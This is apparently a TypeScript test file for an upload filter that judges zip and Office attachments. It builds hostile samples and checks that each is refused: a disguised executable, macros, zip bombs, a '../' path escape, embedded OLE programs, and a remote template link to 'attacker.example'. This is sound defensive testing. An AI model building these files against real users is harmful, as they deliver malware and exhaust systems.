// Zips among attachments judged all the way down, on Office documents and archives the project did not make (Debian's
// copies of documents made by Word, PowerPoint and Excel, and ClamAV's test zip holding a program: test/real-uploads)
// and on the security review's hostile files, made here from those real documents.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { DEFAULT_ZIP_ATTACHMENT_RULES, judgeZipAttachment } from './zip-attachments.ts';
import { rawZip, yazlZip } from './zip-fixtures.test-helper.ts';

const REAL = path.resolve(import.meta.dirname, '../../../test/real-uploads');
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'gsis-zip-attachments-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

let files = 0;
async function judged(bytes: Buffer, fileName: string, allowArchives = false) {
  files += 1;
  const file = path.join(dir, `upload-${files}`);
  await writeFile(file, bytes);
  return judgeZipAttachment(file, fileName, { ...DEFAULT_ZIP_ATTACHMENT_RULES, allowArchives });
}
async function refusal(bytes: Buffer, fileName: string, allowArchives = false): Promise<unknown> {
  return judged(bytes, fileName, allowArchives).then(() => 'accepted', (error: { details?: { reason?: string } }) => error.details?.reason ?? error);
}
const real = (name: string) => readFile(path.join(REAL, name));

/** The entries of a real document, to be packed again with some changed, added or left out. */
async function entriesOf(bytes: Buffer): Promise<Map<string, Buffer>> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  const entries = new Map<string, Buffer>();
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName.endsWith('/')) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    entries.set(entry.fileName, Buffer.concat(chunks));
  }
  return entries;
}
const repack = (entries: Map<string, Buffer>) => yazlZip([...entries].map(([name, data]) => ({ name, data })));

describe('zip attachments: real Office documents', () => {
  it('keeps documents made by Word, PowerPoint and Excel as what their names say', async () => {
    expect(await judged(await real('word-example.docx'), 'Service report.docx')).toBe('docx');
    expect(await judged(await real('powerpoint-example.pptx'), 'training.PPTX')).toBe('pptx');
    expect(await judged(await real('excel-datasets.xlsx'), 'parts list.xlsx')).toBe('xlsx');
  });

  it('refuses a document named as another kind of Office file, and an archive where archives are not allowed', async () => {
    expect(await refusal(await real('excel-datasets.xlsx'), 'report.docx')).toBe('NOT_OFFICE');
    expect(await refusal(await real('word-example.docx'), 'manual.zip')).toBe('ARCHIVE');
  });
});

describe("zip attachments: the review's hostile files", () => {
  it('refuses a zip holding a program and a web page, named invoice.docx (M9)', async () => {
    const zip = await yazlZip([{ name: 'evil.html', data: '<script>alert(1)</script>' }, { name: 'payload.exe', data: Buffer.from('MZ\x90\x00', 'latin1') }]);
    expect(await refusal(zip, 'invoice.docx')).toBe('PROGRAM');
    // ClamAV's own test zip (a program inside), under an Office name and as an allowed archive alike.
    expect(await refusal(await real('clamav-clam.zip'), 'invoice.docx')).toBe('PROGRAM');
    expect(await refusal(await real('clamav-clam.zip'), 'photos.zip', true)).toBe('PROGRAM');
  });

  it('refuses a program whatever it is called inside, and a web page or a script in an archive', async () => {
    expect(await refusal(await yazlZip([{ name: 'readme.txt', data: Buffer.from('MZ\x90\x00rest', 'latin1') }]), 'a.zip', true)).toBe('PROGRAM');
    expect(await refusal(await yazlZip([{ name: 'start.sh', data: 'echo hi' }]), 'a.zip', true)).toBe('PROGRAM');
    expect(await refusal(await yazlZip([{ name: 'page.HTM', data: '<p>hi</p>' }]), 'a.zip', true)).toBe('PROGRAM');
  });

  it('refuses a Word document with a macro, and a macro-enabled one renamed .docx', async () => {
    const entries = await entriesOf(await real('word-example.docx'));
    entries.set('word/vbaProject.bin', Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA project', 'latin1'));
    expect(await refusal(await repack(entries), 'invoice.docx')).toBe('MACRO');
    const renamed = await entriesOf(await real('word-example.docx'));
    const types = renamed.get('[Content_Types].xml')!.toString('utf8')
      .replace('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', 'application/vnd.ms-word.document.macroEnabled.main+xml');
    renamed.set('[Content_Types].xml', Buffer.from(types));
    expect(await refusal(await repack(renamed), 'invoice.docx')).toBe('MACRO');
  });

  it('refuses a zip bomb inside a docx: an entry that unpacks to thousands of times its size, or lies about it', async () => {
    const entries = await entriesOf(await real('word-example.docx'));
    entries.set('word/media/image9.png', Buffer.alloc(64 * 1024 * 1024));
    expect(await refusal(await repack(entries), 'bomb.docx')).toBe('ZIP_BOMB');
    // The header says 10 bytes; the data inflates to far more.
    const liar = rawZip([
      ...[...(await entriesOf(await real('word-example.docx')))].map(([name, data]) => ({ name, data })),
      { name: 'word/media/small.png', data: Buffer.alloc(5 * 1024 * 1024), declaredSize: 10 },
    ]);
    expect(await refusal(liar, 'liar.docx')).toBe('TOO_LARGE');
  });

  it('refuses a template fetched from an address when the document opens, and a packaged program embedded in it', async () => {
    const entries = await entriesOf(await real('word-example.docx'));
    entries.set('word/_rels/settings.xml.rels', Buffer.from(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
      + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
      + '</Relationships>'));
    expect(await refusal(await repack(entries), 'template.docx')).toBe('EXTERNAL_LINK');

    // A hyperlink to the web is what documents have: it stays.
    const linked = await entriesOf(await real('word-example.docx'));
    const rels = linked.get('word/_rels/document.xml.rels')!.toString('utf8').replace('</Relationships>',
      '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/></Relationships>');
    linked.set('word/_rels/document.xml.rels', Buffer.from(rels));
    expect(await judged(await repack(linked), 'linked.docx')).toBe('docx');

    const packaged = await entriesOf(await real('powerpoint-example.pptx'));
    packaged.set('ppt/embeddings/oleObject1.bin', Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.from('\x01Ole10Native', 'utf16le'), Buffer.from('setup.exe')]));
    expect(await refusal(await repack(packaged), 'slides.pptx')).toBe('EMBEDDED_PROGRAM');
  });

  it('judges an Office document embedded in another as a document of its own', async () => {
    const chart = await real('excel-datasets.xlsx');
    const entries = await entriesOf(await real('word-example.docx'));
    entries.set('word/embeddings/Microsoft_Excel_Worksheet.xlsx', chart);
    expect(await judged(await repack(entries), 'with chart.docx')).toBe('docx');
    const withMacro = await entriesOf(chart);
    withMacro.set('xl/vbaProject.bin', Buffer.from('vba'));
    entries.set('word/embeddings/Microsoft_Excel_Worksheet.xlsx', await repack(withMacro));
    expect(await refusal(await repack(entries), 'with chart.docx')).toBe('MACRO');
  });

  it('in an allowed archive: refuses archives inside, and anything encrypted; keeps plain files', async () => {
    expect(await judged(await yazlZip([{ name: 'photos/pump.jpg', data: 'jpeg' }, { name: 'notes.txt', data: 'hello' }]), 'photos.zip', true)).toBeNull();
    expect(await refusal(await yazlZip([{ name: 'inner.dat', data: await real('clamav-clam.zip') }]), 'outer.zip', true)).toBe('NESTED_ARCHIVE');
    expect(await refusal(await yazlZip([{ name: 'inner.7z', data: 'x' }]), 'outer.zip', true)).toBe('NESTED_ARCHIVE');
    expect(await refusal(rawZip([{ name: 'secret.txt', data: Buffer.from('x'), flags: 1 }]), 'outer.zip', true)).toBe('ENCRYPTED');
    expect(await refusal(rawZip([{ name: '../escape.txt', data: Buffer.from('x') }]), 'outer.zip', true)).toBe('PATH_ESCAPE');
    expect(await refusal(Buffer.from('PK\x03\x04 not really a zip', 'latin1'), 'broken.xlsx')).toBe('NOT_A_ZIP');
  });
});
